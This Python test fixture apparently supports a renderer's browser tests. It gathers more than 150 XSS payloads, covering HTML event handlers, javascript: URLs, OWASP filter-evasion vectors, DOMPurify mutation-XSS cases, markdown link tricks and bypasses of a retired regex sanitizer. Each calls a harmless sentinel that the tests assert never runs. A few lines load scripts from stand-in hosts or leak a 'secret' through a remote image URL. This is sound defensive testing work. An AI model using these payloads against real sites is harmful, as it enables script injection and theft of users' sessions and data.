"""XSS payloads for every surface that renders model or server text. Every executable one calls
``__xss(1)``; the browser tests install ``window.__xss`` and assert it never ran.

Sources: the classic browser-XSS vectors, the OWASP XSS filter-evasion cheat sheet, DOMPurify's
test vectors, markdown-specific link/reference/code tricks, and the bypasses and trusted-note
leaks an attack pass found (``BYPASSES``, ``NOTES``), written out here (no network)."""

from __future__ import annotations

from typing import Any

_CALL = "__xss(1)"

_BASE = [
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=data:text/javascript,__xss(1)></SCRIPT>",
    "<img src=x onerror=__xss(1)>",
    '<img src="x" onerror="__xss(1)">',
    "<img src=x oNeRrOr=__xss(1)//",
    "<img/src=x/onerror=__xss(1)>",
    "<svg onload=__xss(1)>",
    "<svg><script>__xss(1)</script></svg>",
    "<svg><animate onbegin=__xss(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:__xss(1)"><text x=20 y=20>X</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(1)>",
    '<iframe src="javascript:__xss(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss(1)</script>"></iframe>',
    '<object data="javascript:__xss(1)"></object>',
    '<embed src="javascript:__xss(1)">',
    "<body onload=__xss(1)>",
    "<details open ontoggle=__xss(1)>",
    "<video><source onerror=__xss(1)></video>",
    "<audio src=x onerror=__xss(1)>",
    "<input autofocus onfocus=__xss(1)>",
    "<select autofocus onfocus=__xss(1)>",
    "<textarea autofocus onfocus=__xss(1)></textarea>",
    "<marquee onstart=__xss(1)>x</marquee>",
    '<div onmouseover=__xss(1) style="position:fixed;inset:0">x</div>',
    '<a href="javascript:__xss(1)">click</a>',
    '<a href="JaVaScRiPt:__xss(1)">click</a>',
    '<a href="&#106;avascript:__xss(1)">click</a>',
    '<a href="java&#x09;script:__xss(1)">click</a>',
    '<a href=" javascript:__xss(1)">click</a>',
    '<a href="vbscript:__xss(1)">click</a>',
    '<a href="data:text/html,<script>__xss(1)</script>">click</a>',
    '<form action="javascript:__xss(1)"><button>go</button></form>',
    '<button formaction="javascript:__xss(1)">go</button>',
    "<style>@import 'javascript:__xss(1)';</style>",
    '<div style="background:url(javascript:__xss(1))">x</div>',
    '<div style="width: expression(__xss(1))">x</div>',
    '<link rel=stylesheet href="javascript:__xss(1)">',
    '<meta http-equiv=refresh content="0;url=javascript:__xss(1)">',
    '<base href="javascript:__xss(1)//">',
    "<template><img src=x onerror=__xss(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=__xss(1)>"></noscript>',
    "<img src=x onerror=&#95;&#95;xss(1)>",
    "&lt;img src=x onerror=__xss(1)&gt;",
    "<<script>script>__xss(1)<</script>/script>",
    "<scr<script>ipt>__xss(1)</scr</script>ipt>",
    "<img src=`x` onerror=__xss(1)>",
    "<isindex type=image src=1 onerror=__xss(1)>",
    "<xss onafterscriptexecute=__xss(1)><script>1</script>",
    '<img src="data:image/svg+xml,<svg onload=__xss(1)>">',
    '<table background="javascript:__xss(1)"><tr><td>x</td></tr></table>',
    '<a href="#" onclick="__xss(1)">x</a>',
    "<img src=x:alert(1) onerror=eval('__xss(1)')>",
    '"><img src=x onerror=__xss(1)>',
    "'><svg onload=__xss(1)>",
    "</textarea><script>__xss(1)</script>",
    "</title><script>__xss(1)</script>",
]

_MARKDOWN = [
    "[click](javascript:__xss(1))",
    "[click](JAVASCRIPT:__xss(1))",
    "[click](&#106;avascript:__xss(1))",
    "[click](javascript&#58;__xss(1))",
    "[click](  javascript:__xss(1)  )",
    "[click](<javascript:__xss(1)>)",
    "[click](vbscript:__xss(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==)",
    "![img](javascript:__xss(1))",
    '![img"onerror="__xss(1)](x)',
    "[a]: javascript:__xss(1)\n\n[click][a]",
    "<javascript:__xss(1)>",
    '[x](javascript:__xss(1) "title")',
    "[x](java\tscript:__xss(1))",
    "[![img](x)](javascript:__xss(1))",
    "| a | b |\n|---|---|\n| <img src=x onerror=__xss(1)> | [c](javascript:__xss(1)) |",
    "# <img src=x onerror=__xss(1)>",
    "> <svg onload=__xss(1)>",
    "- <iframe src=javascript:__xss(1)>",
    "**<img src=x onerror=__xss(1)>**",
    "`code` <img src=x onerror=__xss(1)> `more`",
    "\\`<img src=x onerror=__xss(1)>\\`",
    "```\n</code></pre><img src=x onerror=__xss(1)>\n```",
    "``` a`b\n<img src=x onerror=__xss(1)>\n```",
    "$<img src=x onerror=__xss(1)>$",
    "$$\n<img src=x onerror=__xss(1)>\n$$",
    "\\(<svg onload=__xss(1)>\\)",
    "[<img src=x onerror=__xss(1)>](https://example.org)",
    "<details><summary>x</summary><img src=x onerror=__xss(1)></details>",
    "https://example.org/<img src=x onerror=__xss(1)>",
    'www.example.org"onmouseover="__xss(1)',
    '[x](https://example.org"onmouseover="__xss(1))',
    "<a href=https://example.org onmouseover=__xss(1)>x</a>",
    "<<img src=x onerror=__xss(1)>>",
    "\n\n<div>\n<img src=x onerror=__xss(1)>\n</div>\n\n",
    "<!-- --><img src=x onerror=__xss(1)><!-- -->",
    "<![CDATA[<img src=x onerror=__xss(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=__xss(1)>',
]


# OWASP XSS filter-evasion cheat sheet vectors, rewritten to call __xss(1)
_OWASP = [
    '<IMG SRC="javascript:__xss(1);">',
    "<IMG SRC=javascript:__xss(1)>",
    "<IMG SRC=JaVaScRiPt:__xss(1)>",
    "<IMG SRC=`javascript:__xss(1)`>",
    '<a onmouseover="__xss(1)">xxs link</a>',
    '<IMG """><SCRIPT>__xss(1)</SCRIPT>"\\>',
    '<IMG SRC=# onmouseover="__xss(1)">',
    '<IMG SRC= onmouseover="__xss(1)">',
    '<IMG onmouseover="__xss(1)">',
    '<IMG SRC=/ onerror="__xss(1)"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058__xss(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__xss(1)>",
    '<IMG SRC="jav\tascript:__xss(1);">',
    '<IMG SRC="jav&#x09;ascript:__xss(1);">',
    '<IMG SRC="jav&#x0A;ascript:__xss(1);">',
    '<IMG SRC="jav&#x0D;ascript:__xss(1);">',
    '<IMG SRC=" &#14;  javascript:__xss(1);">',
    '<SCRIPT/XSS SRC="http://xss.example/xss.js">__xss(1)</SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=__xss(1)>",
    '<SCRIPT/SRC="http://xss.example/xss.js">__xss(1)</SCRIPT>',
    "<<SCRIPT>__xss(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >__xss(1)",
    "<SCRIPT SRC=//xss.example/.j>__xss(1)",
    '<IMG SRC="`<javascript:__xss(1)>`"',
    "<iframe src=http://xss.example/scriptlet.html < __xss(1)",
    '\\";__xss(1);//',
    "</TITLE><SCRIPT>__xss(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:__xss(1);">',
    '<BODY BACKGROUND="javascript:__xss(1)">',
    '<IMG DYNSRC="javascript:__xss(1)">',
    '<IMG LOWSRC="javascript:__xss(1)">',
    '<STYLE>li {list-style-image: url("javascript:__xss(1)");}</STYLE><UL><LI>XSS</br>',
    "<IMG SRC='vbscript:__xss(1)'>",
    '<IMG SRC="livescript:__xss(1)">',
    "<svg/onload=__xss(1)>",
    '<BGSOUND SRC="javascript:__xss(1);">',
    '<BR SIZE="&{__xss(1)}">',
    '<LINK REL="stylesheet" HREF="javascript:__xss(1);">',
    '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">__xss(1)',
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>__xss(1)",
    '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">__xss(1)',
    '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>__xss(1)',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:__xss(1)';</STYLE>",
    '<IMG STYLE="xss:expr/*XSS*/ession(__xss(1))">',
    '<STYLE TYPE="text/javascript">__xss(1);</STYLE>',
    '<STYLE>.XSS{background-image:url("javascript:__xss(1)");}</STYLE><A CLASS=XSS></A>',
    '<STYLE type="text/css">BODY{background:url("javascript:__xss(1)")}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">__xss(1)',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg">__xss(1)',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:__xss(1);">',
    '<IFRAME SRC="javascript:__xss(1);"></IFRAME>',
    '<IFRAME SRC=# onmouseover="__xss(1)"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:__xss(1);"></FRAMESET>',
    '<TABLE><TD BACKGROUND="javascript:__xss(1)">',
    '<DIV STYLE="background-image: url(javascript:__xss(1))">',
    '<DIV STYLE="width: expression(__xss(1));">',
    '<BASE HREF="javascript:__xss(1);//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>__xss(1)',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoMSk+" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>__xss(1)',
    '<SCRIPT a=">" SRC="httx://xss.example/xss.js">__xss(1)</SCRIPT>',
    '<img src="x` `<script>__xss(1)</script>"` `>',
    '<img src onerror /" \'"= alt=__xss(1)//">',
    "<title onpropertychange=__xss(1)></title><title title=>",
    '<a href=http://foo.bar/#x=`y></a><img alt="`><img src=x:x onerror=__xss(1)></a>">',
    "<!--[if]><script>__xss(1)</script -->",
    "<!--[if<img src=x onerror=__xss(1)//]> -->",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058&#0000095&#0000095xss(1)">',
]

# DOMPurify's test vectors (mutation XSS, namespace confusion, attribute tricks)
_DOMPURIFY = [
    "<svg><style><img src=x onerror=__xss(1)></style></svg>",
    "<math><mi><mglyph><svg><mtext><style><img src onerror=__xss(1)></style></mtext></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=__xss(1)>">',
    '<svg><p><style><a id="</style><img src=1 onerror=__xss(1)>">',
    "<noscript><img src=x onerror=__xss(1)></noscript>",
    '<a href="javas&#99;ript:__xss(1)">x</a>',
    '<a href="&#x6a;avascript:__xss(1)">x</a>',
    '<a href="\x01javascript:__xss(1)">x</a>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
    '<image href=1 onerror=__xss(1) /></svg>#x" />',
    '<a href="  &#14;javascript:__xss(1)">x</a>',
    "<svg><a><animate attributeName=href values=javascript:__xss(1) />"
    "<text x=20 y=20>Click</text></a>",
    '<svg><set attributeName="onmouseover" to="__xss(1)"/>',
    '<img src=1 href=1 onerror="javascript:__xss(1)"></img>',
    '<audio src=1 href=1 onerror="javascript:__xss(1)"></audio>',
    '<video src=1 href=1 onerror="javascript:__xss(1)"></video>',
    '<body src=1 href=1 onerror="javascript:__xss(1)"></body>',
    '<object src=1 href=1 onerror="javascript:__xss(1)"></object>',
    '<script src=1 href=1 onerror="javascript:__xss(1)"></script>',
    '<svg onResize svg onResize="javascript:javascript:__xss(1)"></svg onResize>',
    '<iframe onLoad iframe onLoad="javascript:javascript:__xss(1)"></iframe onLoad>',
    '<body onMouseEnter body onMouseEnter="javascript:__xss(1)"></body onMouseEnter>',
    '<frameset onScroll frameset onScroll="javascript:__xss(1)"></frameset onScroll>',
    '<html onMouseUp html onMouseUp="javascript:__xss(1)"></html onMouseUp>',
    '<a href="javascript&colon;__xss(1)">x</a>',
    '<a href="jav&Tab;ascript:__xss(1)">x</a>',
    '<a href="javascript&NewLine;:__xss(1)">x</a>',
    '<img src="x" alt="<img src=x onerror=__xss(1)>">',
    '<a title="a" href="http://x.example" data-x="<script>__xss(1)</script>">x</a>',
    '<img src=x class="jp-Dialog" id="main" onerror=__xss(1)>',
    '<div class="jp-Dialog" style="position:fixed;inset:0">fake dialog __xss(1)</div>',
    '<a href="data:text/html,<script>__xss(1)</script>" target=_blank>x</a>',
    '<iframe src="data:text/html,<script>parent.__xss(1)</script>"></iframe>',
    "<img src=x onerror=window['__x'+'ss'](1)> xss(1)",
    '<svg><script href="data:,__xss(1)" />',
    "<math href=javascript:__xss(1)>click</math>",
    '<form id="test"></form><button form="test" formaction="javascript:__xss(1)">X</button>',
    "<input onfocus=__xss(1) autofocus>",
    "<keygen autofocus onfocus=__xss(1)>",
]

# more markdown: link destinations, references, code, footnotes, remote images
_MARKDOWN_MORE = [
    "[x](javascript:__xss(1)//%0a)",
    "[x](javascript://%0a__xss(1))",
    "![leak](https://evil.example/leak.png?q=secret) __xss(1)",
    "<https://evil.example/x> __xss(1)",
    "[x][ref]\n\n[ref]: javascript:__xss(1)",
    "[x](file:///etc/passwd) __xss(1)",
    "[&#x6A;avascript:__xss(1)](&#x6A;avascript:__xss(1))",
    "[x](javas\\cript:__xss(1))",
    '[x](<javascript:__xss(1)> "t")',
    "[x](javascript:__xss(1)#https://ok.example)",
    '![x](x "onerror=__xss(1)")',
    "[x]: <javascript:__xss(1)>\n\n[x]",
    "Footnote[^1]\n\n[^1]: <img src=x onerror=__xss(1)>",
    "~~~\n</code><script>__xss(1)</script>\n~~~",
    "    <script>__xss(1)</script>",
    "*<img src=x onerror=__xss(1)>*",
    "<details open ontoggle=__xss(1)><summary>x</summary></details>",
    "$$[x](javascript:__xss(1))$$",
    "$[x](javascript:__xss(1))$",
    "$$\n[a]: javascript:__xss(1)\n$$\n\n[click][a]",
]

# the six bypasses of the regex sanitizer this module replaced (issue 11, H2)
BYPASSES = [
    "`a\n# [x](javascript:__xss(1)) `",
    "- ```\n  a\n\n<img src=x onerror=__xss(1)>\n\n```",
    "> [a]: javascript:__xss(1)\n\n[click][a]",
    "- [a]: javascript:__xss(1)\n\n[click][a]",
    "[a\\]]: javascript:__xss(1)\n\n[a\\]]",
    "~~~~\n<img src=x onerror=__xss(1)>\n~~~~",
]

# server text that reached trusted markdown (issue 11, H1): schema errors, tool names, cancel
NOTES = [
    "respnb: 1 validation error for Foo\na\n  Input should be a valid integer "
    "[type=int_parsing, input_value='<img src=x onerror=__xss(1)>', input_type=str]",
    "respnb: stopped after 8 tool rounds; the model still wanted: <img src=x onerror=__xss(1)>, "
    "[x](javascript:__xss(1))",
    "respnb: cancel failed: Error code 400: <svg onload=__xss(1)> *[y](javascript:__xss(1))*",
]

PAYLOADS: list[str] = _BASE + _MARKDOWN + _OWASP + _DOMPURIFY + _MARKDOWN_MORE + BYPASSES + NOTES
# wrapped variants: inside prose, inside a list, after a heading
PAYLOADS += [f"Hello {p} world" for p in _BASE[:20]]
PAYLOADS += [f"1. item\n2. {p}" for p in _MARKDOWN[:10]]

URLS = [
    "javascript:__xss(1)",
    "JavaScript:__xss(1)",
    " javascript:__xss(1)",
    "java\nscript:__xss(1)",
    "&#106;avascript:__xss(1)",
    "vbscript:__xss(1)",
    "data:text/html,<script>__xss(1)</script>",
    "data:image/svg+xml,<svg onload=__xss(1)>",
    '"><img src=x onerror=__xss(1)>',
]

assert len(PAYLOADS) >= 150, len(PAYLOADS)
assert all("xss(1)" in p or "PHNj" in p for p in PAYLOADS)


def hostile_response(payload: str, url: str = URLS[0]) -> dict[str, Any]:
    """A finished response whose every model-controlled field holds ``payload`` / ``url``."""
    return {
        "id": "resp_x",
        "object": "response",
        "status": "completed",
        "model": payload,
        "metadata": {"task_url": url, "share_url": url, "task_title": payload},
        "output": [
            {"type": "reasoning", "summary": [{"type": "summary_text", "text": payload}]},
            {
                "type": "message",
                "role": "assistant",
                "content": [
                    {
                        "type": "output_text",
                        "text": payload,
                        "annotations": [
                            {"type": "url_citation", "url": url, "title": payload},
                            {"type": "file_citation", "file_id": payload, "filename": payload},
                        ],
                    },
                    {"type": "refusal", "refusal": payload},
                    {
                        "type": "output_file",
                        "fileUrl": url,
                        "fileName": payload,
                        "mimeType": "image/png",
                    },
                ],
            },
            {
                "type": "message",
                "role": "user",
                "content": [
                    {"type": "input_text", "text": payload},
                    {"type": "input_image", "image_url": url},
                ],
            },
            {"type": "function_call", "call_id": "c", "name": payload, "arguments": payload},
            {"type": "function_call_output", "call_id": "c", "output": payload},
            {"type": "custom_tool_call", "call_id": "d", "name": payload, "input": payload},
            {
                "type": "web_search_call",
                "status": payload,
                "action": {
                    "type": "search",
                    "query": payload,
                    "sources": [{"type": "url", "url": url, "title": payload}],
                },
            },
            {"type": "web_search_call", "action": {"type": "open_page", "url": url}},
            {
                "type": "file_search_call",
                "queries": [payload],
                "results": [{"file_id": payload, "filename": payload, "text": payload}],
            },
            {
                "type": "code_interpreter_call",
                "code": payload + "\n~~~\n" + payload + "\n~~~~\n" + payload + "\n````",
                "outputs": [{"type": "logs", "logs": payload}, {"type": "image", "url": url}],
            },
            {
                "type": "mcp_list_tools",
                "server_label": payload,
                "tools": [{"name": payload, "description": payload}],
                "error": payload,
            },
            {
                "type": "mcp_call",
                "server_label": payload,
                "name": payload,
                "arguments": payload,
                "output": payload,
                "error": payload,
            },
            {
                "type": "mcp_approval_request",
                "server_label": payload,
                "name": payload,
                "arguments": payload,
            },
            {"type": "image_generation_call", "result": url},
            {
                "type": "computer_call",
                "call_id": "e",
                "action": {"type": payload, "x": payload},
                "pending_safety_checks": [{"id": "s", "code": payload, "message": payload}],
            },
            {
                "type": "apply_patch_call",
                "call_id": "f",
                "operation": {"type": payload, "path": payload, "diff": "+" + payload},
            },
            {"type": "shell_call", "action": {"commands": [payload]}, "output": payload},
            {"type": payload[:30] or "x", "id": payload, "html": payload},
        ],
        "error": {"code": payload[:20], "message": payload},
    }
